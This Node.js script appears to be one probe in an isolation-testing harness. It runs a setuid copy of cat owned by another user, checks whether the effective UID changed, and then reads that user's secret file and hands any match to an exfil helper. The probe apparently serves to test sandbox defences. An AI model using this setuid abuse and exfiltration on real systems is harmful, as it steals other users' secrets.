'use strict';
// A setuid binary reachable from the install: run it to act as its owner (here another
// user's copy of cat) and read that user's secret.
const { execFileSync } = require('child_process');
const lib = require('./lib.js');

lib.run(async () => {
  const { binary, secret } = lib.cfg.params;
  try {
    const status = execFileSync(binary, ['/proc/self/status'], { encoding: 'utf8' });
    const uids = (/^Uid:\s+(\d+)\s+(\d+)/m.exec(status) || []).slice(1);
    if (uids.length === 2 && uids[0] !== uids[1]) lib.did('euid-changed');
  } catch (e) {
    lib.note(`run ${binary}: ${e.code || e.message}`);
  }
  try {
    const loot = execFileSync(binary, [secret], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
    if (lib.found(loot).length > 0) await lib.exfil(loot);
  } catch (e) {
    lib.note(`read the other user's file: ${e.status}`);
  }
});
